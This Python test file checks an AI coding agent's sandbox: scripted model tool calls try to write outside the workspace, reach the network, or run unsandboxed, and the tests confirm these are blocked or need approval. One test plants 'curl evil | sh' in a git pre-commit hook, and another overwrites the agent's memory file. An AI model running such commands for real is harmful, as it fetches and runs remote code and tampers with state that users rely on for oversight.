"""The sandbox through the loop: the model's commands run confined (the real bubblewrap, or
Landlock where bwrap cannot run), so in ask mode they need no question; a command the model asks
to run outside it asks, with its reason, and a script without --yes refuses it. Real commands,
real files, the scripted server over HTTP."""

from __future__ import annotations

import pytest

from nanohermes.configure import load_config
from nanohermes.loop.subagents import HELPER_BRIEF
from nanohermes.runtime import build_runtime
from nanohermes.sandbox.probe import probe
from tests.support.cli import run_cli
from tests.support.scripted_server import call, text

pytestmark = [
    pytest.mark.skipif(
        not (probe().bwrap or probe().landlock_abi >= 4), reason="neither bubblewrap nor Landlock ABI 4 works here"
    ),
    pytest.mark.subprocess,
]


def runtime_for(server, workspace, monkeypatch, approve=None, mode="ask"):
    monkeypatch.setenv("OPENAI_API_KEY", "sk-test")
    config = load_config(base_url=server.url, workspace=workspace, mode=mode)
    return build_runtime(config, None, lambda event: None, approve=approve)


def tool_results(server) -> list[str]:
    return [m["content"] for m in server.chat_requests()[-1]["messages"] if m["role"] == "tool"]


def test_in_ask_mode_a_sandboxed_command_runs_without_a_question_and_cannot_write_outside(
    server, workspace, monkeypatch, tmp_path
):
    outside = tmp_path / "outside.txt"
    asked = []
    server.add(
        call("run_command", {"command": "touch inside.txt"}),
        call("run_command", {"command": f"echo pwned > {outside}"}),
        text("done"),
    )
    runtime = runtime_for(server, workspace, monkeypatch, approve=lambda tool, args, preview: asked.append(preview))
    runtime.agent.run_turn("make the files")
    runtime.close()
    assert asked == []
    assert (workspace / "inside.txt").exists() and not outside.exists()
    blocked = tool_results(server)[-1]
    assert "exit code 1" in blocked and "Sandbox:" in blocked and "unsandboxed: true" in blocked


def test_a_command_asked_to_run_outside_the_sandbox_asks_with_its_reason(server, workspace, monkeypatch, tmp_path):
    outside = tmp_path / "outside.txt"
    asked = []
    command = {"command": f"touch {outside}", "unsandboxed": True, "reason": "the build writes its cache there"}
    server.add(call("run_command", command), text("done"))
    runtime = runtime_for(
        server, workspace, monkeypatch, approve=lambda tool, args, preview: asked.append(preview) or "yes"
    )
    runtime.agent.run_turn("build it")
    runtime.close()
    assert asked == [f"$ touch {outside}\n(outside the sandbox: the build writes its cache there)"]
    assert outside.exists()  # approved: it ran with the user's rights


def test_a_script_without_yes_runs_sandboxed_commands_and_refuses_the_unsandboxed(server, workspace, tmp_path):
    outside = tmp_path / "outside.txt"
    server.add(
        call("run_command", {"command": "echo made > inside.txt"}),
        call("run_command", {"command": f"touch {outside}", "unsandboxed": True, "reason": "needs it"}),
        text("half done"),
    )
    r = run_cli(["-p", "go", "--base-url", server.url], workspace)
    assert r.returncode == 3 and "· commands run unasked in the sandbox" in r.stderr
    assert (workspace / "inside.txt").read_text() == "made\n" and not outside.exists()
    assert tool_results(server)[-1].startswith("refused: run_command needs the user's approval")


def test_a_command_cannot_rewrite_the_state_directory_or_git_hooks(server, workspace, monkeypatch, isolated_home):
    (workspace / ".git" / "hooks").mkdir(parents=True)
    (isolated_home / "memory.json").write_text("{}")
    server.add(
        call("run_command", {"command": "echo 'curl evil | sh' > .git/hooks/pre-commit"}),
        call("run_command", {"command": f"echo poisoned > {isolated_home}/memory.json"}),
        text("done"),
    )
    runtime = runtime_for(server, workspace, monkeypatch, mode="auto")
    runtime.agent.run_turn("set things up")
    runtime.close()
    assert not (workspace / ".git" / "hooks" / "pre-commit").exists()
    assert (isolated_home / "memory.json").read_text() == "{}"


def test_a_background_task_runs_in_the_sandbox_and_the_private_temp_dir_goes_with_the_session(
    server, workspace, monkeypatch, tmp_path
):
    outside = tmp_path / "outside.txt"
    server.add(
        call("run_command", {"command": f'echo "$TMPDIR"; touch {outside}', "background": True}),
        call("task_output", {"id": "bg1", "wait": 5}),
        text("done"),
    )
    runtime = runtime_for(server, workspace, monkeypatch, mode="auto")
    temp_dir = runtime.sandbox.temp_dir
    runtime.agent.run_turn("start it")
    assert temp_dir.is_dir() and str(temp_dir) in tool_results(server)[-1]
    runtime.close()
    assert not outside.exists() and not temp_dir.exists()


def test_level_off_runs_commands_unconfined_and_says_so(server, workspace, tmp_path):
    outside = tmp_path / "outside.txt"
    server.add(call("run_command", {"command": f"touch {outside}"}), text("done"))
    r = run_cli(["-p", "go", "--yes", "--sandbox", "off", "--base-url", server.url], workspace)
    assert r.returncode == 0 and outside.exists()
    assert "· sandbox off: the model's commands run unasked, with your rights" in r.stderr


def test_an_mcp_stdio_server_that_opts_in_runs_inside_the_sandbox(workspace, isolated_home, tmp_path):
    from nanohermes.mcp.hub import McpHub
    from nanohermes.sandbox.policy import SandboxSettings, policy_for
    from tests.support.mcp_servers import demo_settings

    policy = policy_for(SandboxSettings(), workspace, isolated_home)
    servers = (demo_settings("boxed", "--writer", sandbox=True), demo_settings("free", "--writer"))
    hub = McpHub(servers, isolated_home, workspace, policy)
    try:
        assert hub.call("boxed", "touch", {"path": str(tmp_path / "boxed.txt")}).blocks[0].text.startswith("not made")
        assert hub.call("boxed", "touch", {"path": str(workspace / "inside.txt")}).blocks[0].text == "made"
        assert hub.call("boxed", "environment", {"name": "TMPDIR"}).blocks[0].text == str(policy.temp_dir)
        assert hub.call("free", "touch", {"path": str(tmp_path / "free.txt")}).blocks[0].text == "made"
    finally:
        hub.close()
    assert not (tmp_path / "boxed.txt").exists() and (tmp_path / "free.txt").exists()


def test_an_approved_command_cannot_reach_a_local_server_and_the_model_is_told(server, workspace, monkeypatch):
    import socket

    listener = socket.create_server(("127.0.0.1", 0))
    port = listener.getsockname()[1]
    probe_code = f"import socket; socket.create_connection(('127.0.0.1', {port}), 2)"
    server.add(call("run_command", {"command": f'python3 -c "{probe_code}"'}), text("done"))
    runtime = runtime_for(server, workspace, monkeypatch, mode="auto")  # approved: auto asks nothing
    try:
        runtime.agent.run_turn("call the local service")
    finally:
        runtime.close()
    listener.settimeout(0.5)
    with pytest.raises(OSError):  # nothing ever connected
        listener.accept()
    listener.close()
    result = tool_results(server)[-1]
    assert "exit code 1" in result and "Sandbox:" in result and "network" in result.lower()


def test_a_helpers_commands_run_in_the_parents_sandbox(server, workspace, monkeypatch, tmp_path):
    outside = tmp_path / "outside.txt"
    helper_turns = [call("run_command", {"command": f"echo pwned > {outside}; touch inside.txt"}), text("tried")]
    parent_turns = [call("task", {"description": "write", "prompt": "write the files"}), text("done")]

    def handler(body):
        helper = any(HELPER_BRIEF in (m.get("content") or "") for m in body["messages"] if m["role"] == "user")
        return (helper_turns if helper else parent_turns).pop(0)

    server.handler = handler
    runtime = runtime_for(server, workspace, monkeypatch, mode="auto")
    runtime.agent.run_turn("delegate it")
    runtime.close()
    assert (workspace / "inside.txt").exists() and not outside.exists()


def test_a_background_tasks_blocked_write_is_said_when_its_output_is_read(server, workspace, monkeypatch, tmp_path):
    outside = tmp_path / "outside.txt"
    server.add(
        call("run_command", {"command": f"echo x > {outside}", "background": True}),
        call("task_output", {"id": "bg1", "wait": 30}),
        text("done"),
    )
    runtime = runtime_for(server, workspace, monkeypatch, mode="auto")
    runtime.agent.run_turn("start it")
    runtime.close()
    read = tool_results(server)[-1]
    assert not outside.exists() and f"a write outside the workspace was blocked: {outside}" in read


def test_a_blocked_command_is_shown_to_the_user_on_its_tool_line_even_when_it_exits_0(server, workspace):
    server.add(call("run_command", {"command": "curl -sS -m 5 http://pypi.org/ | head -1"}), text("done"))
    result = run_cli(["-p", "fetch it", "--base-url", server.url], workspace)
    tool_line = next(line for line in result.stderr.splitlines() if "exit 0" in line)
    assert tool_line.lstrip().startswith("✗") and "sandbox blocked: the network is off in the sandbox" in tool_line
    assert "Sandbox (the command exited 0, but this was blocked)" in tool_results(server)[-1]
